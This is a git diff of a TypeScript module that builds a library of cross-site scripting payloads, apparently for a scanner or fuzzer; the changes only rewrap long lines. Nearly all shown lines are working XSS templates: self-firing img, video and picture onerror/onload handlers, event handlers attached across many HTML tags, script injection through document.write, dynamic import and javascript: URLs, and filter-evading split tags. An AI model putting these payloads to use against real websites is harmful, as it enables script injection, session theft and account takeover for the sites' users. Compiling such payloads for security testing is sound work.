@@ -4,7 +4,8 @@ import { crossed, entities, words, type Payload } from './payload.ts'
 /** They fire by being there. */
 const SELF_FIRING: readonly Payload[] = [
   js => `<img src=x onerror=${js}>`,
-  js => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload="${js}">`,
+  js =>
+    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload="${js}">`,
   js => `<image src=x onerror=${js}>`,
   js => `<picture><source srcset=x><img onerror=${js}></picture>`,
   js => `<video src=x onerror=${js}></video>`,
@@ -63,7 +64,9 @@ const WAITING = words(`
   onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitionend onvolumechange onwaiting onwheel`)
 
 /** Each handler once, the elements in turn. */
-const HOLDERS = words('p div span b a img table td li h2 blockquote figure font center svg math form input button video xss-a')
+const HOLDERS = words(
+  'p div span b a img table td li h2 blockquote figure font center svg math form input button video xss-a',
+)
 const waiting: Payload[] = WAITING.map((name, index) => {
   const tag = HOLDERS[index % HOLDERS.length] ?? 'p'
   return js => `<${tag} tabindex=0 ${name}="${js}">x</${tag}>`
@@ -107,7 +110,8 @@ const WRITTEN: readonly ((js: string) => string)[] = [
   js => `<img src=x onerror="throw onerror=()=>${js},1">`,
   js => `<img src=x onerror="location='javascript:${js}'">`,
   js => `<img src=x onerror="import('data:text/javascript,${js}')">`,
-  js => `<img src=x onerror="document.body.appendChild(Object.assign(document.createElement('script'),{text:'${js}'}))">`,
+  js =>
+    `<img src=x onerror="document.body.appendChild(Object.assign(document.createElement('script'),{text:'${js}'}))">`,
   js => `<img src=x onerror="document.write('<script>parent.${js}<\\/script>')">`,
   js => `<img src=x onerror="alert${js.slice(3)}">`,
   js => `<img src=x onerror="confirm${js.slice(3)}">`,
@@ -127,7 +131,10 @@ const AROUND = words('script style iframe noscript object svg math template titl
 const nested = crossed(
   AROUND,
   [0, 1] as const,
-  (tag, kind) => js => (kind === 0 ? `<${tag}><img src=x onerror=${js}></${tag}>` : `<i<${tag}>mg src=x on<${tag}>error=${js}></${tag}>`),
+  (tag, kind) => js =>
+    kind === 0
+      ? `<${tag}><img src=x onerror=${js}></${tag}>`
+      : `<i<${tag}>mg src=x on<${tag}>error=${js}></${tag}>`,
 )
 
 export const handlers: readonly Payload[] = [...SELF_FIRING, ...waiting, ...WRITTEN, ...nested]
